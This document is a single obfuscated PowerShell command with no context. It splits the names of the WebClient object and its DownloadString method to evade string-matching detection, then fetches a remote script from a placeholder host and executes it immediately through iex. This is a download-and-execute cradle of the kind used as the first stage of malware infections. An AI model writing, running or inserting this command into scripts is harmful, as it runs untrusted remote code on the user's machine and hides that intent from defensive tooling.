(New-Object ('Net.We'+'bClient')).('Downl'+'oadString').Invoke('https://cdn-x7.invalid/a.ps1') | iex
